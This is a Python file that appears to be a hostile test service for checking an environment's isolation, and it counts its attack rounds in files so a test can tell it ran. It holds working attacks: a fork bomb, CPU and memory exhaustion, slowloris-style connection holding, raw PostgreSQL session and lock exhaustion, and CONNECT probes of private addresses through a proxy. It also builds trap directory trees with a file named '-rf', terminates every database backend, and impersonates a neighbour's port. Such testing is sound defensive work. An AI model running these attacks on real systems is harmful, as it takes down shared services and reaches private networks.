"""A service that attacks its neighbour and the machine for as long as it runs.

It runs inside an environment, with the standard library only. Each attack repeats in a process of its own and counts
its rounds in a file, so a test can tell that it ran.
"""

from __future__ import annotations

import contextlib
import http.server
import os
import socket
import struct
import subprocess
import threading
import time
from pathlib import Path
from urllib.parse import urlsplit

HOME = Path(os.environ.get("HOME", "/"))
PROXY = ("127.0.0.1", 3128)
PROTOCOL = 196608
"""Version 3.0 of PostgreSQL's."""
SORT = "SELECT count(*) FROM (SELECT repeat(md5(i::text), 20) FROM generate_series(1, 1000000) i ORDER BY 1) x"
MAX_TREES = 25
DEPTH = 400


def burn_cpu(_: int) -> None:
    end = time.monotonic() + 0.5
    while time.monotonic() < end:
        pass


def fill_memory(_: int) -> None:
    if os.fork() == 0:
        held = [bytearray(2**20) for _ in range(4096)]
        os._exit(len(held) % 2)
    os.wait()


def fork_bomb(_: int) -> None:
    children = []
    with contextlib.suppress(OSError):
        for _ in range(5000):
            pid = os.fork()
            if pid == 0:
                time.sleep(1)
                os._exit(0)
            children.append(pid)
    for pid in children:
        os.waitpid(pid, 0)


def hold_connections(_: int) -> None:
    """To the proxy and to its own host names, without ever sending a whole request."""
    held = []
    for target in [PROXY, ("127.0.0.1", int(os.environ["OWN_PORT"]))] * 100:
        with contextlib.suppress(OSError):
            made = socket.create_connection(target, 1)
            made.sendall(b"GET / HTTP/1.1\r\n")
            held.append(made)
    time.sleep(0.5)
    for made in held:
        made.close()


def hold_sessions(_: int) -> None:
    """Sessions that never authenticate count for no role, but each takes one of PostgreSQL's processes."""
    own = urlsplit(os.environ["DATABASE_URL"])
    words = "".join(f"{word}\0" for word in ("user", own.username, "database", own.path[1:], "")).encode()
    held = []
    for _ in range(300):
        with contextlib.suppress(OSError):
            made = socket.create_connection((own.hostname, own.port), 1)
            made.sendall(struct.pack("!ii", len(words) + 8, PROTOCOL) + words)
            held.append(made)
    time.sleep(5)
    for made in held:
        made.close()


def take_locks(_: int) -> None:
    """All of the table that PostgreSQL has for all databases, and keeps them."""
    run_sql("LOCKS_URL", "SELECT count(pg_advisory_lock(i)) FROM generate_series(1, 200000) i", "SELECT pg_sleep(5)")


def sort_without_end(number: int) -> None:
    """In memory or in temporary files, in turn."""
    memory = ("1GB", "64kB")[number % 2]
    run_sql("SORTS_URL", f"SET work_mem = '{memory}'", SORT, times=8)


def look_up_names(number: int) -> None:
    held = []
    for index in range(60):
        with contextlib.suppress(OSError):
            made = socket.create_connection(PROXY, 1)
            made.sendall(f"CONNECT name-{number}-{index}.hostile.invalid:443 HTTP/1.1\r\n\r\n".encode())
            held.append(made)
    for made in held:
        made.close()


def request_private_addresses(_: int) -> None:
    for host in os.environ["TARGETS"].split(","):
        with contextlib.suppress(OSError), socket.create_connection(PROXY, 2) as made:
            made.sendall(f"CONNECT {host} HTTP/1.1\r\n\r\n".encode())
            answer = made.recv(100)
            if b" 200 " in answer:
                (HOME / "reached").write_text(host)


def build_trees(number: int) -> None:
    """Deep ones, with odd names, and closed at the top."""
    if number >= MAX_TREES:
        time.sleep(1)
        return
    top = HOME / f"tree-{number}"
    top.mkdir()
    os.mkfifo(top / "pipe")
    (top / "-rf\n").write_text("x")
    folder = os.open(top, os.O_RDONLY)
    for _ in range(DEPTH):
        os.mkdir("d" * 50, dir_fd=folder)
        below = os.open("d" * 50, os.O_RDONLY, dir_fd=folder)
        os.close(folder)
        folder = below
    os.close(folder)
    top.chmod(0)


def query(number: int) -> None:
    statements = [
        "COMMENT ON DATABASE eph_blog_db IS '{}'",
        "COMMENT ON DATABASE eph_blog_db IS $$" + "[" * 60_000 + "$$",
        "SELECT count(*) FROM generate_series(1, 500000) a ORDER BY 1",
        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
        "SELECT pg_sleep(2)",
    ]
    run_sql("DATABASE_URL", statements[number % len(statements)], times=4)


def run_sql(url: str, *statements: str, times: int = 1) -> None:
    """Each database has a role of its own, so that a suspended one ends no other attack."""
    argv = [os.environ["PSQL"], "-X", "-q", "-d", os.environ[url]]
    argv += [word for statement in statements for word in ("-c", statement)]
    sessions = [subprocess.Popen(argv, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) for _ in range(times)]
    for session in sessions:
        session.wait()


ATTACKS = (
    burn_cpu, burn_cpu, fill_memory, fork_bomb, hold_connections, hold_sessions, take_locks, sort_without_end,
    look_up_names, request_private_addresses, build_trees, query,
)  # fmt: skip


visited = threading.Event()


class Impostor(http.server.BaseHTTPRequestHandler):
    """Listens on the neighbour's port."""

    def do_GET(self) -> None:
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"stolen")
        visited.set()

    def log_message(self, *_: object) -> None:
        pass


def main() -> None:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", int(os.environ["PORT"])), Impostor)
    threading.Thread(target=server.serve_forever).start()
    visited.wait()  # a health check, so the service counts as ready
    rounds = HOME / "rounds"
    rounds.mkdir(exist_ok=True)
    for attack in ATTACKS:
        if os.fork() == 0:
            number = 0
            while True:
                with contextlib.suppress(OSError):
                    attack(number)
                number += 1
                with contextlib.suppress(OSError):
                    (rounds / attack.__name__).write_text(str(number))


if __name__ == "__main__":
    main()
